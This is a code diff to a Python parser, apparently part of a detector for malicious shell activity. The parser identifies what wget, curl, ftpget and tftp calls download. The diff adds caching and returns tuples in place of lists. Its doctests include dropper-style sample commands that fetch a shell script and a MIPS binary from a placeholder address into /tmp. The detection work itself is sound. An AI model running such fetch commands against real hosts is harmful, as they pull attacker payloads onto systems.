@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from functools import lru_cache
 from typing import Final, NamedTuple
 
 from pipeline.shell.calls import Call
@@ -33,12 +34,13 @@ class Fetch(NamedTuple):
     """The path it is kept under, '' where it goes to standard output."""
 
 
-def fetch(call: Call) -> list[Fetch]:
-    """What `call` fetches.
+@lru_cache(8)
+def fetch(call: Call) -> tuple[Fetch, ...]:
+    """What `call` fetches; the last few are remembered, since each detector asks in turn.
 
     Example:
         >>> fetch(Call("wget", ("wget", "-q", "http://203.0.113.5/b/x.sh", "-O", "/tmp/x")))
-        [Fetch(tool='wget', source=Url(scheme='http', host='203.0.113.5', port=0, path='/b/x.sh'), kept='/tmp/x')]
+        (Fetch(tool='wget', source=Url(scheme='http', host='203.0.113.5', port=0, path='/b/x.sh'), kept='/tmp/x'),)
         >>> [f.kept for f in fetch(Call("tftp", ("tftp", "-g", "-r", "a.mips", "203.0.113.5")))]
         ['a.mips']
     """
@@ -51,21 +53,19 @@ def fetch(call: Call) -> list[Fetch]:
     if call.name == "curl":
         options = parse(argv, "oXHdFuAemxbcTrwKEhCyYzt", _CURL_LONG)
         if options.has("T", "upload-file"):
-            return []
+            return ()
         saved = options.has("O", "remote-name") or options.has("J")
         options.operands.extend(options.all("url"))
         return _from_urls(call, options, options.first("o", "output"), "", saved)
     if call.name == "ftpget":
         options = parse(argv, "upP")
         if len(options.operands) < 2:
-            return []
-        return [Fetch("ftpget", Url("ftp", options.operands[0], 0, "/" + options.operands[-1]), options.operands[1])]
-    if call.name == "tftp":
-        return _tftp(argv)
-    return []
+            return ()
+        return (Fetch("ftpget", Url("ftp", options.operands[0], 0, "/" + options.operands[-1]), options.operands[1]),)
+    return _tftp(argv) if call.name == "tftp" else ()
 
 
-def _from_urls(call: Call, options: Options, kept: str, folder: str, saves: bool) -> list[Fetch]:
+def _from_urls(call: Call, options: Options, kept: str, folder: str, saves: bool) -> tuple[Fetch, ...]:
     found: list[Fetch] = []
     for operand in options.operands:
         source = url(operand)
@@ -77,20 +77,20 @@ def _from_urls(call: Call, options: Options, kept: str, folder: str, saves: bool
         elif name and folder and not kept:
             name = f"{folder.rstrip('/')}/{name}"
         found.append(Fetch(call.name, source, "" if name == "/dev/null" else name))
-    return found
+    return tuple(found)
 
 
-def _tftp(argv: tuple[str, ...]) -> list[Fetch]:
+def _tftp(argv: tuple[str, ...]) -> tuple[Fetch, ...]:
     words = list(argv)
     hosts = [word for word in words if bare_address(word) or ("." in word and not word.startswith(("-", "/")))]
     host = next((word for word in hosts if bare_address(word)), hosts[0] if hosts else "")
     if not host:
-        return []
+        return ()
     name = ""
     for mark in ("-r", "get", "-l"):
         if mark in words[:-1]:
             name = words[words.index(mark) + 1]
             break
     if not name and "-c" not in words and "-g" not in words:
-        return []
-    return [Fetch("tftp", Url("tftp", host, 0, "/" + name), name)]
+        return ()
+    return (Fetch("tftp", Url("tftp", host, 0, "/" + name), name),)
